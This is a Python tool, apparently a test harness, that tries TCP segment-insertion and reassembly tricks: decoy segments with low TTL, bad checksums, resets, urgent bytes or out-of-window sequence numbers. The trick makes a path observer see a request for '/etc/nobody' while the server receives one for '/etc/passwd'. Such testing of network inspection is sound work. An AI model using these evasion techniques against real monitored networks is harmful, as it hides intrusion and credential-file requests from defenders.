"""A client that shows its own kernel's TCP to nobody: it says one thing to whoever looks at the path, and another to the server.

smuggle.py serve ADDRESS              reads one connection after the other; what it has read of each, a line in hexadecimal
smuggle.py ADDRESS FIRST_PORT MARK    tries every case; a line with its name for each, when the server has acknowledged all of it

The server's host drops what has a TTL below 10: the path ends before it. The client's kernel must not answer: its host drops what
does not have the MARK. Behind raw_peer.py.
"""
import random
import socket
import sys
import time

PORT = 7400
HELLO = b"hello\r\n"
EVIL = b"GET /x?file=/etc/passwd&y=1 HTTP/1.0\r\n"
HONEST = EVIL.replace(b"/etc/passwd", b"/etc/nobody")
FAR = 1 << 24


def segment(at, data, **how):
    return at, data, how


def beforehand(*first):
    """What is not to be taken goes first, and then what is to be read."""
    return [*first, segment(0, EVIL)]


def instead(**how):
    """The middle of the pattern comes twice; the first copy is not to be taken."""
    return [segment(0, EVIL[:16]), segment(16, HONEST[16:20], **how), segment(16, EVIL[16:20]), segment(20, EVIL[20:])]


def named():
    never = {
        "low_ttl": {"ttl": 5},
        "bad_checksum": {"bad": True},
        "old_timestamp": {"older": 1 << 20},
        "signed": {"signed": True},
        "without_ack": {"flags": PSH},
        "acknowledging_the_future": {"ack": FAR},
        "with_syn": {"flags": SYN | ACK},
    }
    for name, how in never.items():
        yield name, beforehand(segment(0, HONEST, **how))
        yield name + "_within", instead(**how)
    yield "plain", beforehand()
    yield "in_pieces", [segment(at, EVIL[at:at + 1]) for at in range(len(EVIL))]
    yield "beyond_the_window", beforehand(segment(FAR, HONEST))
    yield "before_the_window", beforehand(segment(-FAR, HONEST))
    yield "reset_beyond_the_window", beforehand(segment(FAR, b"", flags=RST))
    yield "reset_within_the_window", beforehand(segment(9, b"", flags=RST))
    for flags, name in ((RST, "reset"), (RST | ACK, "reset_with_ack"), (FIN | ACK, "fin")):
        yield name + "_low_ttl", beforehand(segment(0, b"", flags=flags, ttl=5))
        yield name + "_bad_checksum", beforehand(segment(0, b"", flags=flags, bad=True))
    # The urgent byte is taken out of the stream.
    yield "urgent", [segment(0, EVIL[:16] + b"!" + EVIL[16:], flags=ACK | URG, urgent=17)]
    yield "urgent_alone", [
        segment(0, EVIL[:16]), segment(16, b"!", flags=ACK | URG, urgent=1), segment(17, EVIL[16:]),
    ]
    yield "behind_a_hole", [segment(16, HONEST[16:]), segment(10, EVIL[10:]), segment(0, EVIL[:20])]
    yield "behind_a_hole_first", [segment(10, EVIL[10:]), segment(16, HONEST[16:]), segment(0, EVIL[:12])]


def at_random(number):
    """Pieces of what is to be read and of what is not, which contradict each other, in any order; then what is to be read."""
    chance = random.Random(number)
    pieces = []
    for _ in range(chance.randint(3, 9)):
        at = chance.randrange(len(EVIL))
        text = EVIL if chance.random() < 0.7 else HONEST
        how = {"ttl": 5} if chance.random() < 0.2 else {"bad": True} if chance.random() < 0.1 else {}
        pieces.append(segment(at, text[at:at + chance.randint(1, 30)], **how))
    at = 0
    while at < len(EVIL):
        length = chance.randint(1, 15)
        pieces.append(segment(at, EVIL[at:at + length]))
        at += length
    return f"at_random_{number}", pieces


class Smuggler(Peer):
    def attempt(self, port, pieces):
        """Says hello, tries, and says what an honest client says; whether all has been acknowledged."""
        self.open(port)
        hello = lambda: self.send(0, HELLO)
        hello()
        self.until(lambda: self.all_acknowledged(len(HELLO)), again=hello) or sys.exit("hello is not acknowledged")
        time.sleep(0.01)
        for at, data, how in pieces:
            self.send(len(HELLO) + at, data, **how)
        # One more for the urgent byte.
        total = HELLO + HONEST + b"\n"

        def rest():
            acked = self.acked - FIRST & 0xFFFFFFFF
            self.send(acked, total[acked:])

        rest()
        return self.until(lambda: self.all_acknowledged(len(total)), within=2.0, again=rest)


def read_all(connection):
    connection.settimeout(20)
    got = b""
    try:
        while more := connection.recv(4096):
            got += more
    except (ConnectionResetError, TimeoutError):
        pass
    return got


def serve(address):
    listener = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((address, PORT))
    listener.listen(64)
    print("listening", flush=True)
    while True:
        connection, _ = listener.accept()
        with connection:
            print("read", read_all(connection).hex(), flush=True)


def main():
    if sys.argv[1] == "serve":
        return serve(sys.argv[2])
    peer = Smuggler(sys.argv[1], PORT, int(sys.argv[3]))
    cases = [*named(), *map(at_random, range(40))]
    for count, (name, pieces) in enumerate(cases):
        is_whole = peer.attempt(int(sys.argv[2]) + count, pieces)
        peer.reset()
        print(name, "whole" if is_whole else "cut", flush=True)


main()
